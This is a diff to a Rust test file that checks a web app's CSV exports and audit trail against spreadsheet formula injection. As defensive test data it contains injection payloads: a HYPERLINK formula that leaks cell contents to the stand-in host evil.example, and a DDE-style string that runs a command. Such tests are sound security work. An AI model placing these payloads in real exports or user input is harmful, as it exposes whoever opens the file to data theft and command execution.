@@ -309,9 +309,139 @@ async fn you_said_we_did_lists_each_item(backend: Backend) {
     assert!(html.contains("Letters in plain English") && html.contains("declined: No budget"));
     assert!(!html.contains("Parking"));
     assert!(html.contains("@media print"));
+
+    // The whole organisation's page is headed with its name, as people know it.
+    let page = app
+        .ok(
+            &officer,
+            YOU_SAID,
+            json!({ "org": "QMJ", "format": "HTML" }),
+        )
+        .await["youSaidWeDid"]
+        .clone();
+    let html = page["content"].as_str().expect("html");
+    assert!(
+        html.contains("<h1>You said, we did: North Central Trust</h1>"),
+        "{html}"
+    );
+}
+
+/// Whether a spreadsheet would read `cell` as a formula (OWASP's first characters).
+fn formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell's value as stored, by the rule the README gives a verifier: drop one leading `'`.
+fn unquote(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
+}
+
+/// Every cell of a CSV file, header included.
+fn cells(content: &str) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(content.as_bytes());
+    reader
+        .records()
+        .flat_map(|r| {
+            r.expect("csv row")
+                .iter()
+                .map(str::to_owned)
+                .collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+/// Text people typed that a spreadsheet would run comes out of every CSV export with a `'` in
+/// front; the audit trail still verifies line by line once a reader drops that `'`.
+async fn csv_exports_carry_no_formulas(backend: Backend) {
+    let app = spawn_app(backend).await;
+    app.register("QMJ", "North Central Trust").await;
+    // The actor's subject comes from the identity provider: it reaches the audit trail's cells.
+    let officer = app
+        .tokens
+        .mint(
+            "@SUM(1+1)*cmd",
+            Role::EngagementOfficer,
+            &["QMJ".to_owned()],
+            3600,
+        )
+        .expect("token");
+    let activity = plan_activity(&app, &officer, "QMJ", "2026-01-10").await;
+    let link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";
+    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let hyperlink = record_item(&app, &officer, &activity, link, "2026-01-10").await;
+    record_item(&app, &officer, &activity, sum, "2026-01-10").await;
+    app.ok(&officer, "mutation($i: DecideInputItemInput!) { decideInputItem(input: $i) { inputItem { id } } }",
+        json!({ "i": { "inputItemId": hyperlink, "outcome": "DECLINED", "reason": "-1+2 budget", "decidedOn": "2026-01-20" } })).await;
+
+    let you_said = app
+        .ok(&officer, YOU_SAID, json!({ "org": "QMJ", "format": "CSV" }))
+        .await["youSaidWeDid"]["content"]
+        .as_str()
+        .expect("content")
+        .to_owned();
+    let written = cells(&you_said);
+    for typed in [link, sum, "-1+2 budget"] {
+        assert!(
+            written.contains(&format!("'{typed}")),
+            "{typed} should be written with a quote in front: {you_said}"
+        );
+    }
+    assert!(!written.iter().any(|c| formula(c)), "{you_said}");
+    let rows = parse_csv(&you_said);
+    let said: BTreeSet<&str> = rows
+        .iter()
+        .map(|r| unquote(r["you_said"].as_str().expect("cell")))
+        .collect();
+    assert_eq!(
+        said,
+        BTreeSet::from([link, sum]),
+        "dropping the quote gives the text back"
+    );
+
+    let auditor = app.token(Role::Auditor, &["QMJ"]);
+    let later = (Utc::now() + chrono::Duration::minutes(5)).to_rfc3339();
+    let trail = app
+        .ok(
+            &auditor,
+            TRAIL,
+            json!({ "org": "QMJ", "from": "2026-01-01T00:00:00Z", "to": later, "format": "CSV" }),
+        )
+        .await["auditTrail"]["content"]
+        .as_str()
+        .expect("content")
+        .to_owned();
+    let written = cells(&trail);
+    assert!(!written.iter().any(|c| formula(c)), "{trail}");
+    let events: Vec<Value> = parse_csv(&trail)
+        .into_iter()
+        .map(|mut e| {
+            for (_, v) in e.as_object_mut().expect("row").iter_mut() {
+                if let Some(text) = v.as_str() {
+                    *v = json!(unquote(text));
+                }
+            }
+            e
+        })
+        .collect();
+    let by_officer: Vec<&Value> = events
+        .iter()
+        .filter(|e| e["actor_subject"] == "@SUM(1+1)*cmd")
+        .collect();
+    assert_eq!(
+        by_officer.len(),
+        4,
+        "planned, two items, one decision: {trail}"
+    );
+    assert!(
+        events.iter().all(verifies),
+        "every line verifies once the quote is dropped"
+    );
 }
 
 on_both!(
     the_audit_trail_holds_the_period_and_no_more,
-    you_said_we_did_lists_each_item
+    you_said_we_did_lists_each_item,
+    csv_exports_carry_no_formulas
 );
